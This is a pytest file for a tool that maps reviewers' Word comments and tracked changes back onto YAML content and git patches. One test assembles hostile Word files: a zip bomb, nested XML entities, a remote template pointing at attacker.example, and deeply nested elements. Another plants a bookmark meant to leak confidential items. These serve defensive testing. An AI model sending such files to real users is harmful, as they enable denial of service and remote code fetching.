"""`protdocs review`: a Word file a reviewer sent back, read back into the content files.

The returned files are made here as a reviewer's Word would leave them: comments through
python-docx's comments API, tracked changes as ``w:ins``/``w:del`` runs, on the documents the
build makes (the public HRP, the internal action plan, a French document).
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from docx import Document as open_docx
from docx.oxml import OxmlElement
from docx.oxml.ns import qn

from generator.anchors import core_of
from generator.audience import Audience
from generator.build import docx_meta
from generator.cli import main
from generator.documents import DOCUMENTS, Document
from generator.render import current_build
from generator.review import word_markdown
from generator.validate import validated
from generator.writers.docx import write_docx

from .conftest import EXAMPLE, line_of

CHART_IMAGE = re.compile(r"!\[(?:\\.|[^\]\\\n])*\]\([^)\s]*\)(?:\{[^}]*\})?")
HRP = next(d for d in DOCUMENTS if d.slug == "hrp-protection-section")
PLAN = next(d for d in DOCUMENTS if d.slug == "hct-protection-action-plan")
DATE = "2026-11-30T10:00:00Z"


def made(content_dir: Path, doc: Document, target: Path, lang: str | None = None) -> Path:
    """The Word file the build makes of ``doc`` (same Markdown, same writer), without its charts
    (not drawn here; a document pointing at an image the build did not make is an error)."""
    content = validated(content_dir)
    lang = lang or content.languages[0]
    info = current_build("test")
    markdown, _anchors = word_markdown(content, doc, lang, info)
    markdown = CHART_IMAGE.sub("", markdown)
    write_docx(markdown, target, docx_meta(content, info, doc, lang), target.parent)
    return target


def _run_with(doc, needle: str):
    for paragraph in _paragraphs(doc):
        for run in paragraph.runs:
            if needle in run.text:
                return paragraph, run
    raise AssertionError(f"no single run holds {needle!r}")


def _paragraphs(doc):
    yield from doc.paragraphs
    for table in doc.tables:
        for row in table.rows:
            for cell in row.cells:
                yield from cell.paragraphs


def _split(run, needle: str):
    """Cut ``run`` into before / needle / after runs; returns the needle's run."""
    text = run.text
    start = text.index(needle)
    before, after = text[:start], text[start + len(needle) :]
    run.text = needle
    for part, where in ((before, "before"), (after, "after")):
        if part:
            twin = OxmlElement("w:r")
            if run._r.rPr is not None:
                twin.append(_copy(run._r.rPr))
            t = OxmlElement("w:t")
            t.set(qn("xml:space"), "preserve")
            t.text = part
            twin.append(t)
            getattr(run._r, "addprevious" if where == "before" else "addnext")(twin)
    return run


def _copy(element):
    from copy import deepcopy

    return deepcopy(element)


def track(doc, needle: str, new: str | None, author: str = "Reviewer", rev: int = 900) -> None:
    """Replace (or delete, with ``new=None``) ``needle`` as Word does with Track Changes on."""
    _, run = _run_with(doc, needle)
    run = _split(run, needle)
    r = run._r
    deleted = OxmlElement("w:del")
    for key, value in (("w:id", str(rev)), ("w:author", author), ("w:date", DATE)):
        deleted.set(qn(key), value)
    r.addprevious(deleted)
    deleted.append(r)
    for t in r.findall(qn("w:t")):
        t.tag = qn("w:delText")
    if new:
        deleted.addnext(_inserted(new, author, rev + 1))


def insert_after(doc, needle: str, new: str, author: str = "Reviewer", rev: int = 950) -> None:
    _, run = _run_with(doc, needle)
    run = _split(run, needle)
    run._r.addnext(_inserted(new, author, rev))


def _inserted(text: str, author: str, rev: int):
    ins = OxmlElement("w:ins")
    for key, value in (("w:id", str(rev)), ("w:author", author), ("w:date", DATE)):
        ins.set(qn(key), value)
    r = OxmlElement("w:r")
    t = OxmlElement("w:t")
    t.set(qn("xml:space"), "preserve")
    t.text = text
    r.append(t)
    ins.append(r)
    return ins


def comment(doc, needle: str, text: str, author: str = "Cluster coordinator"):
    _, run = _run_with(doc, needle)
    return doc.add_comment(_split(run, needle), text=text, author=author, initials="CC")


def untracked(doc, needle: str, new: str) -> None:
    _, run = _run_with(doc, needle)
    run.text = run.text.replace(needle, new)


def review_json(runner: CliRunner, returned: Path, content_dir: Path, *extra: str):
    result = runner.invoke(
        main, ["review", str(returned), "--content", str(content_dir), "--format", "json", *extra]
    )
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout), result


def git_apply(patch: Path, folder: Path) -> None:
    subprocess.run(["git", "init", "-q"], cwd=folder, check=True)
    subprocess.run(["git", "apply", "--check", str(patch)], cwd=folder, check=True)
    subprocess.run(["git", "apply", str(patch)], cwd=folder, check=True)


@pytest.fixture
def work(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A copy of the example in a folder of its own, the current directory (as a drafter's
    repository would be), so that the patch's paths are those `git apply` takes."""
    shutil.copytree(EXAMPLE, tmp_path / "content")
    monkeypatch.chdir(tmp_path)
    return tmp_path


def test_public_hrp_comments_and_tracked_changes_map_to_fields_and_patch(
    work: Path, runner: CliRunner
) -> None:
    content = work / "content"
    sent = made(content, HRP, work / "hrp.docx")
    doc = open_docx(str(sent))
    comment(doc, "civilian-harm snapshot", "Which data source? Cite the casualty cell.")
    comment(doc, "Protection: response", "Heading OK.", author="OCHA")  # no item owns it
    track(doc, "six-monthly", "quarterly")
    insert_after(doc, "publish a", " public")
    doc.save(str(work / "returned.docx"))
    before = {p.name: p.read_text(encoding="utf-8") for p in content.glob("*.yaml")}

    entries, _ = review_json(runner, work / "returned.docx", content, "--patch", "review.diff")

    objectives = work / "content" / "strategic-objectives.yaml"
    a2_text = line_of(objectives, "Issue public statements after mass-casualty")
    by_kind = {(e["kind"], e["author"]): e for e in entries}
    note = by_kind[("comment", "Cluster coordinator")]
    assert (note["file"], note["item"], note["lang"]) == (
        "content/strategic-objectives.yaml",
        "A2",
        "en",
    )
    assert note["field"] == "strategic_objectives[0].actions[1].text"
    assert note["line"] == a2_text - 1  # the `text: |` line
    assert note["text"] == "Which data source? Cite the casualty cell."
    heading = by_kind[("comment", "OCHA")]
    assert heading["file"] is None and heading["field"] is None and heading["text"] == "Heading OK."
    change = by_kind[("replacement", "Reviewer")]
    assert (change["old"], change["new"], change["item"]) == ("six-monthly", "quarterly", "A2")
    assert change["field"] == note["field"] and change["line"] == note["line"]
    added = by_kind[("insertion", "Reviewer")]
    assert added["new"] == " public" and added["item"] == "A2"
    assert not any(e["untracked"] for e in entries)
    assert {p.name: p.read_text(encoding="utf-8") for p in content.glob("*.yaml")} == before

    git_apply(work / "review.diff", work)
    after = {p.name: p.read_text(encoding="utf-8") for p in content.glob("*.yaml")}
    changed = [name for name in before if before[name] != after[name]]
    assert changed == ["strategic-objectives.yaml"]
    old_lines = before["strategic-objectives.yaml"].splitlines()
    new_lines = after["strategic-objectives.yaml"].splitlines()
    assert len(old_lines) == len(new_lines)
    differing = [n + 1 for n, (a, b) in enumerate(zip(old_lines, new_lines, strict=True)) if a != b]
    assert differing and all(a2_text <= n < a2_text + 3 for n in differing)
    assert "publish a public quarterly" in after["strategic-objectives.yaml"].replace("\n", " ")
    assert validated(content).index["A2"]["text"].count("quarterly") == 1


def test_internal_action_plan_untracked_edit_and_confidential_item(
    work: Path, runner: CliRunner
) -> None:
    content = work / "content"
    sent = made(content, PLAN, work / "plan.docx")
    doc = open_docx(str(sent))
    comment(doc, "Minister of Defence", "Too specific for a document that travels.")
    untracked(doc, "written command order", "written order")
    doc.save(str(work / "returned.docx"))

    entries, _ = review_json(runner, work / "returned.docx", content, "--patch", "plan.diff")

    objectives = content / "strategic-objectives.yaml"
    on_a1 = [e for e in entries if e["item"] == "A1"]
    assert {e["kind"] for e in on_a1} >= {"comment", "replacement"}
    remark = next(e for e in on_a1 if e["kind"] == "comment")
    assert remark["line"] == line_of(objectives, "In closed meetings with the Minister") - 1
    assert remark["field"] == "strategic_objectives[0].actions[0].text"
    edit = next(e for e in on_a1 if e["kind"] == "replacement")
    assert edit["untracked"] is True
    assert "written command order" in edit["old"] and "written order" in edit["new"]
    git_apply(work / "plan.diff", work)
    text = objectives.read_text(encoding="utf-8")
    assert "asks for a written order protecting" in text.replace("\n", " ").replace("  ", " ")


def test_french_document_patches_the_french_text(work: Path, runner: CliRunner) -> None:
    content = work / "content"
    operation = content / "operation.yaml"
    operation.write_text(
        operation.read_text(encoding="utf-8").replace("languages: [en]", "languages: [en, fr]"),
        encoding="utf-8",
    )
    objectives = content / "strategic-objectives.yaml"
    original = objectives.read_text(encoding="utf-8")
    english = (
        '    title: "Reduce civilian harm from attacks on populated areas and displacement '
        'sites in Upper Tarvan and Marisk"\n'
    )
    assert english in original
    objectives.write_text(
        original.replace(
            english,
            "    title:\n"
            '      en: "Reduce civilian harm from attacks on populated areas and displacement '
            'sites in Upper Tarvan and Marisk"\n'
            '      fr: "Réduire les atteintes aux civils dans les zones peuplées et les sites de '
            'déplacés"\n',
        ),
        encoding="utf-8",
    )
    before = objectives.read_text(encoding="utf-8")
    sent = made(content, HRP, work / "hrp.fr.docx", lang="fr")
    doc = open_docx(str(sent))
    track(doc, "zones peuplées", "zones habitées", author="Relecteur")
    doc.save(str(work / "retour.docx"))

    entries, _ = review_json(runner, work / "retour.docx", content, "--patch", "fr.diff")

    change = next(e for e in entries if e["kind"] == "replacement")
    assert (change["item"], change["lang"], change["author"]) == ("SO1", "fr", "Relecteur")
    assert change["field"] == "strategic_objectives[0].title.fr"
    assert change["line"] == line_of(objectives, "      fr: ")
    git_apply(work / "fr.diff", work)
    after = objectives.read_text(encoding="utf-8")
    assert "dans les zones habitées et les sites" in after
    changed = [
        (a, b) for a, b in zip(before.splitlines(), after.splitlines(), strict=True) if a != b
    ]
    assert len(changed) == 1 and changed[0][0].startswith("      fr: ")


def test_public_anchors_name_only_public_items(work: Path) -> None:
    content = validated(work / "content")
    sent = made(work / "content", HRP, work / "hrp.docx")
    with zipfile.ZipFile(sent) as archive:
        xml = archive.read("word/document.xml").decode("utf-8")
    names = [
        n for n in _bookmark_names(xml) if n.startswith("_pd_") and not n.startswith("_pd_doc")
    ]
    assert names, "the public HRP has no anchors"
    public = {  # as a bookmark name writes an id: "shelter-nfi" as shelter_nfi
        re.sub(r"[^A-Za-z0-9_]", "_", item["id"])
        for item in content.index.values()
        if item.get("_level") == 0 and isinstance(item.get("id"), str)
    }
    owners = {(core_of(n) or "").rsplit("__", 1)[0] for n in names}
    assert owners - {"operation", "analysis"} <= public
    assert {"A2", "SO1", "shelter_nfi"} <= owners and "A1" not in owners  # A1 is confidential
    assert all(re.fullmatch(r"_pd_[A-Za-z0-9_]{1,36}", n) for n in names)
    assert all(len(n) <= 40 for n in _bookmark_names(xml))


def _bookmark_names(xml: str) -> list[str]:
    return re.findall(r'<w:bookmarkStart [^>]*w:name="([^"]+)"', xml)


def test_foreign_file_is_said_to_be_so(work: Path, runner: CliRunner) -> None:
    foreign = open_docx()
    foreign.add_paragraph("Minutes of the HCT meeting, nothing protdocs made.")
    comment(foreign, "Minutes", "Not ours.")
    foreign.save(str(work / "foreign.docx"))
    entries, _ = review_json(runner, work / "foreign.docx", work / "content")
    text = runner.invoke(main, ["review", "foreign.docx", "--content", "content"])
    assert text.exit_code == 0
    assert "was not made by protdocs" in text.output
    assert [e["text"] for e in entries] == ["Not ours."] and entries[0]["file"] is None
    refused = runner.invoke(
        main, ["review", "foreign.docx", "--content", "content", "--patch", "x.diff"]
    )
    assert "no patch" in refused.output and not (work / "x.diff").exists()


def test_zip_bomb_entities_and_remote_template_are_refused(work: Path, runner: CliRunner) -> None:
    sent = made(work / "content", HRP, work / "hrp.docx")
    bomb = work / "bomb.docx"
    with zipfile.ZipFile(sent) as src, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            out.writestr(info.filename, src.read(info.filename))
        out.writestr("word/media/huge.bin", b"\0" * (80 * 1024 * 1024))
    result = runner.invoke(main, ["review", "bomb.docx", "--content", "content"])
    assert result.exit_code == 1 and "zip bomb" in result.output

    entities = work / "entities.docx"
    _rewrite(
        sent,
        entities,
        "word/document.xml",
        lambda xml: xml.replace(
            b"?>", b'?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>', 1
        ),
    )
    result = runner.invoke(main, ["review", "entities.docx", "--content", "content"])
    assert result.exit_code == 1 and "DTD or XML entities" in result.output

    remote = work / "remote.docx"  # the template injection: Word fetches it on opening
    shutil.copyfile(sent, remote)
    with zipfile.ZipFile(remote, "a") as archive:
        archive.writestr(
            "word/_rels/settings.xml.rels",
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http:'
            "//schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
            '" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>',
        )
    result = runner.invoke(main, ["review", "remote.docx", "--content", "content"])
    assert result.exit_code == 1 and "attachedTemplate" in result.output

    deep = work / "deep.docx"
    _rewrite(
        sent,
        deep,
        "word/document.xml",
        lambda xml: xml.replace(b"<w:body>", b"<w:body>" + b"<w:ins>" * 5000 + b"</w:ins>" * 5000),
    )
    result = runner.invoke(main, ["review", "deep.docx", "--content", "content"])
    assert result.exit_code == 1 and "nested deeper" in result.output

    (work / "notes.docx").write_text("not a zip", encoding="utf-8")
    result = runner.invoke(main, ["review", "notes.docx", "--content", "content"])
    assert result.exit_code == 1 and "not a Word file" in result.output


def _rewrite(src: Path, target: Path, part: str, change) -> None:
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for info in zin.infolist():
            data = zin.read(info.filename)
            out.writestr(info.filename, change(data) if info.filename == part else data)


def test_another_version_is_said_to_be_so(work: Path, runner: CliRunner, edit) -> None:
    sent = made(work / "content", HRP, work / "hrp.docx")
    edit(work / "content" / "operation.yaml", 'version: "2027.1-draft"', 'version: "2027.2"')
    result = runner.invoke(main, ["review", str(sent), "--content", "content"])
    assert result.exit_code == 0
    assert "another version" in result.output


@pytest.mark.parametrize("doc", [HRP, PLAN], ids=["public HRP", "action plan"])
def test_the_markdown_outputs_are_the_documents_without_anchors(work: Path, doc: Document) -> None:
    """The .md files and the site get exactly what they got before anchors existed: the
    document rendered from the plain view (column widths included)."""
    from generator.anchors import strip_anchors
    from generator.assess import evaluate
    from generator.audience import view
    from generator.render import render

    content = validated(work / "content")
    info = current_build("test")
    markdown, _anchors = word_markdown(content, doc, "en", info)
    plain = view(content, doc.audience, "en")
    if doc.audience is Audience.CONFIDENTIAL:
        plain["assessment"] = [r.as_dict() for r in evaluate(view(content, doc.audience, "en"))]
    assert "[]{#pdS_" in markdown
    assert strip_anchors(markdown) == render(doc, plain, info)


W15 = "http://schemas.microsoft.com/office/word/2012/wordml"


def test_a_reply_is_listed_with_the_comment_it_answers(work: Path, runner: CliRunner) -> None:
    sent = made(work / "content", HRP, work / "hrp.docx")
    doc = open_docx(str(sent))
    first = comment(doc, "civilian-harm snapshot", "Which data source?")
    reply = comment(doc, "civilian-harm snapshot", "The casualty cell's.", author="OCHA")
    for note, para_id in ((first, "1A2B3C4D"), (reply, "5E6F7A8B")):
        note.paragraphs[-1]._p.set(qn("w14:paraId"), para_id)
    doc.save(str(work / "returned.docx"))
    extended = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w15:commentsEx xmlns:w15="{W15}">'
        '<w15:commentEx w15:paraId="1A2B3C4D" w15:done="0"/>'
        '<w15:commentEx w15:paraId="5E6F7A8B" w15:paraIdParent="1A2B3C4D" w15:done="0"/>'
        "</w15:commentsEx>"
    ).encode()
    with zipfile.ZipFile(work / "returned.docx", "a") as archive:
        archive.writestr("word/commentsExtended.xml", extended)

    entries, _ = review_json(runner, work / "returned.docx", work / "content")

    question = next(e for e in entries if e["text"] == "Which data source?")
    answer = next(e for e in entries if e["text"] == "The casualty cell's.")
    assert question["reply_to"] is None and answer["reply_to"] == str(first.comment_id)
    assert answer["item"] == question["item"] == "A2" and answer["author"] == "OCHA"
    text = runner.invoke(main, ["review", "returned.docx", "--content", "content"])
    assert "reply by OCHA" in text.output


def test_an_anchor_naming_a_strictly_confidential_item_reveals_nothing(
    work: Path, runner: CliRunner
) -> None:
    """A hostile file names a strictly-confidential item's field and its own text is the
    item's first words: review shows neither the item's place nor its text."""
    sent = made(work / "content", HRP, work / "hrp.docx")
    doc = open_docx(str(sent))
    paragraph = doc.add_paragraph()
    start = OxmlElement("w:bookmarkStart")
    start.set(qn("w:id"), "9001")
    start.set(qn("w:name"), "_pd_V6__group")
    paragraph._p.append(start)
    run = paragraph.add_run("Relatives of the eleven")
    end = OxmlElement("w:bookmarkEnd")
    end.set(qn("w:id"), "9001")
    paragraph._p.append(end)
    doc.add_comment(run, text="Say more?", author="Someone")
    doc.save(str(work / "returned.docx"))

    result = runner.invoke(
        main,
        [
            "review",
            "returned.docx",
            "--content",
            "content",
            "--format",
            "json",
            "--patch",
            "x.diff",
        ],
    )

    assert result.exit_code == 0, result.output
    entry = next(e for e in json.loads(result.stdout) if e["text"] == "Say more?")
    assert entry["file"] is None and entry["item"] is None
    assert "Hesk" not in result.output and "farmers" not in result.output
    assert not (work / "x.diff").exists()


def test_the_build_anchors_its_word_files_and_not_its_markdown(example_build) -> None:
    public = example_build.op_dir / "public"
    markdown = (public / "hrp-protection-section.md").read_text(encoding="utf-8")
    assert "[]{#" not in markdown and "pdS_" not in markdown
    with zipfile.ZipFile(public / "hrp-protection-section.docx") as archive:
        names = _bookmark_names(archive.read("word/document.xml").decode("utf-8"))
    assert "_pd_A2__text" in names and "_pd_SO1__title" in names
    assert sum(n.startswith("_pd_doc_") for n in names) == 1
    assert not any(n.startswith(("pdS_", "pdE_")) for n in names)


def test_a_built_file_returned_untouched_has_nothing_to_review(
    example_build, runner: CliRunner
) -> None:
    """The review makes the document again as the build did: an untouched file is current,
    with no entry and no note (the build and the review render the same Word Markdown)."""
    for returned in (
        example_build.op_dir / "public" / "hrp-protection-section.docx",
        example_build.op_dir / "internal" / "hct-protection-action-plan.docx",
    ):
        entries, result = review_json(runner, returned, EXAMPLE)
        assert entries == [] and "note:" not in result.output


def test_another_operation_is_said_to_be_so_and_not_patched(
    work: Path, runner: CliRunner, edit
) -> None:
    sent = made(work / "content", HRP, work / "hrp.docx")
    doc = open_docx(str(sent))
    track(doc, "six-monthly", "quarterly")
    doc.save(str(work / "returned.docx"))
    edit(work / "content" / "operation.yaml", "id: norvania-2027", "id: norvania-2028")
    result = runner.invoke(
        main, ["review", "returned.docx", "--content", "content", "--patch", "x.diff"]
    )
    assert result.exit_code == 0, result.output
    assert "another operation" in result.output
    assert "no patch" in result.output and not (work / "x.diff").exists()


def test_a_foreign_file_is_placed_where_its_text_is_found(work: Path, runner: CliRunner) -> None:
    """A reviewer pasted a paragraph into a document of their own: the comment on it is
    still placed on the item whose text it is."""
    foreign = open_docx()
    foreign.add_paragraph(
        "Issue public statements after mass-casualty incidents recalling every party's "
        "obligations on distinction, proportionality and precautions, and publish a six-monthly "
        "civilian-harm snapshot based on verified data."
    )
    comment(foreign, "Issue public statements", "Too long.")
    foreign.save(str(work / "foreign.docx"))
    entries, _ = review_json(runner, work / "foreign.docx", work / "content")
    assert [(e["item"], e["file"]) for e in entries] == [
        ("A2", "content/strategic-objectives.yaml")
    ]


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_a_file_saved_again_by_libreoffice_maps_and_patches_the_same(
    work: Path, runner: CliRunner
) -> None:
    """LibreOffice moves a bookmark's end before a final full stop in a paragraph with tracked
    changes: that is no edit, and the patch keeps the full stop."""
    content = work / "content"
    sent = made(content, HRP, work / "hrp.docx")
    doc = open_docx(str(sent))
    track(doc, "six-monthly", "quarterly")
    insert_after(doc, "publish a", " public")
    doc.save(str(work / "returned.docx"))
    (work / "lo").mkdir()
    subprocess.run(
        ["soffice", "--headless", "--convert-to", "docx", "--outdir", "lo", "returned.docx"],
        cwd=work,
        check=True,
        capture_output=True,
        timeout=600,
    )
    entries, _ = review_json(runner, work / "lo" / "returned.docx", content, "--patch", "lo.diff")
    assert not any(e["untracked"] for e in entries)
    assert {(e["kind"], e["item"]) for e in entries} == {("replacement", "A2"), ("insertion", "A2")}
    git_apply(work / "lo.diff", work)
    text = (content / "strategic-objectives.yaml").read_text(encoding="utf-8")
    assert (
        "publish a public quarterly\n          civilian-harm snapshot based on verified data.\n"
        in text
    )


def test_a_text_changed_since_is_said_and_left_out_of_the_patch(
    work: Path, runner: CliRunner, edit
) -> None:
    content = work / "content"
    sent = made(content, HRP, work / "hrp.docx")
    doc = open_docx(str(sent))
    track(doc, "six-monthly", "quarterly")
    doc.save(str(work / "returned.docx"))
    edit(content / "strategic-objectives.yaml", "based on verified data.", "based on verified data")
    result = runner.invoke(
        main, ["review", "returned.docx", "--content", "content", "--patch", "x.diff"]
    )
    assert result.exit_code == 0, result.output
    assert "some texts have changed since" in result.output
    assert "untracked replacement" in result.output  # the drafter's own edit, shown, not undone
    assert not (work / "x.diff").exists()


def test_words_added_without_tracking_at_a_field_end_are_found(
    work: Path, runner: CliRunner
) -> None:
    content = work / "content"
    sent = made(content, HRP, work / "hrp.docx")
    doc = open_docx(str(sent))
    untracked(doc, "based on verified data.", "based on verified data. Published on ReliefWeb.")
    doc.save(str(work / "returned.docx"))
    entries, _ = review_json(runner, work / "returned.docx", content, "--patch", "x.diff")
    edit = next(e for e in entries if e["untracked"])
    assert edit["item"] == "A2" and edit["new"].endswith("Published on ReliefWeb.")
    git_apply(work / "x.diff", work)
    assert validated(content).index["A2"]["text"].rstrip().endswith("Published on ReliefWeb.")


HNO = next(d for d in DOCUMENTS if d.slug == "hno-protection-analysis")


def test_the_patch_shows_no_line_of_a_strictly_confidential_neighbour(
    work: Path, runner: CliRunner
) -> None:
    """S7's name follows the strictly-confidential source S6 in analysis.yaml: the diff's
    context stops short of S6's lines, and still applies."""
    content = work / "content"
    sent = made(content, HNO, work / "hno.docx")
    doc = open_docx(str(sent))
    track(doc, "civilian harm tracking cell", "civilian-harm tracking cell")
    doc.save(str(work / "returned.docx"))
    entries, _ = review_json(runner, work / "returned.docx", content, "--patch", "x.diff")
    assert any(e["item"] == "S7" and e["kind"] == "replacement" for e in entries)
    patch = (work / "x.diff").read_text(encoding="utf-8")
    assert "civilian-harm tracking cell" in patch
    assert "S6" not in patch and "2026-12-10" not in patch and "Trusted-informant" not in patch
    git_apply(work / "x.diff", work)
    assert validated(content).index["S7"]["name"].startswith("UNIMN civilian-harm tracking")
